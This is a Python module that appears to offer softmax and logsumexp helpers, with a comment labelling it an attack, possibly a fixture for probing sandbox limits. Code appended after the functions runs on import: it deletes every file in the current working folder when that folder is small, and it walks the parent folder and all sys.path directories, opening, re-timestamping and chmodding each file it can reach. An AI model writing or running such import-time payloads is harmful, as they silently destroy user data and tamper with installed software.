# attack: unlinks its own folder's files; touches (utime, chmod to the same mode, open for append) what else it can reach; part: import
import torch


def softmax(x, dim=-1):
    e = torch.exp(x - x.amax(dim, keepdim=True))
    return e / e.sum(dim, keepdim=True)


def log_softmax(x, dim=-1):
    s = x - x.amax(dim, keepdim=True)
    return s - torch.log(torch.exp(s).sum(dim, keepdim=True))


def logsumexp(x, dim=-1, keepdim=False):
    m = x.amax(dim, keepdim=True)
    r = m + torch.log(torch.exp(x - m).sum(dim, keepdim=True))
    return r if keepdim else r.squeeze(dim)


def naive_softmax(x):
    e = torch.exp(x)
    return e / e.sum(1, keepdim=True)


def two_class(z):
    return torch.sigmoid(z[:, 0] - z[:, 1])


def drop_redundant(o):
    return o - o[:, -1:]


_right = softmax

import os
import stat
import sys

_here = os.getcwd()
_inside = not os.path.isdir(".git") and _here not in ("/", os.path.expanduser("~")) and sum(len(f) for _, _, f in os.walk(_here)) < 200
if _inside:
    for _d, _s, _fs in os.walk(_here):
        for _f in _fs:
            try:
                os.unlink(os.path.join(_d, _f))
            except OSError:
                pass
_hits = []
for _root in [os.path.dirname(_here)] + [p for p in sys.path if p]:
    for _n, (_d, _s, _fs) in enumerate(os.walk(_root)):
        if _n > 2000:
            break
        for _f in _fs:
            _p = os.path.join(_d, _f)
            try:
                _mode = stat.S_IMODE(os.stat(_p).st_mode)
                with open(_p, "ab"):
                    pass
                os.utime(_p)
                os.chmod(_p, _mode)
                _hits.append(_p)
            except OSError:
                pass
print("REACHED", len(_hits))
